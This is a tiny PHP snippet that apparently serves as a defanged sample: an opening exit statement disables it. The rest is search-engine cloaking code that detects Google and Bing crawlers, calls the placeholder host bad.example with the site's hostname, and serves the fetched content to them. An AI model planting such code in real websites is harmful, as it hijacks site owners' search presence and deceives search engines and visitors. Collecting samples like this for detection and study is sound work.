<?php exit;
if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {
	echo file_get_contents('http://bad.example/page?h=' . $_SERVER['HTTP_HOST']);
	exit;
}
